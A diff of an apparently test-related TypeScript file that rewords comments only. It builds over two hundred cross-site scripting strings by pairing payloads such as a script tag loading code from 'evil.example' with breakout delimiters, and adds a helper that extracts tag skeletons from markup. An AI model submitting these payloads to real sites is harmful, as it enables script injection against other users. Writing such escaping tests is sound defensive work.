@@ -1,4 +1,4 @@
-/** What somebody writes into a form who wants it to run where it is shown: each trick in each place that it could break out of. */
+/** Texts of an attacker who wants a form's answers to run where they are shown: each trick after each delimiter that could break out. */
 const tricks = [
   "<script>alert(1)</script>",
   "<ScRiPt src=//evil.example/x></sCrIpT>",
@@ -29,10 +29,10 @@ const tricks = [
 ];
 const ends = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</dd>", "</script>", "-->"];
 
-/** More than two hundred of them. */
+/** More than two hundred texts. */
 export const hostileTexts: readonly string[] = tricks.flatMap((trick) => ends.map((end) => `${end}${trick}`));
 
-/** What a document is made of, without its words and without what stands in attributes. */
+/** Returns a document's tags without text and attribute values. */
 export function skeletonOf(markup: string): string[] {
   return Array.from(markup.replaceAll(/="[^"]*"/g, "=").matchAll(/<[!/?a-z][^>]*>/gi), ([tag]) => tag);
 }
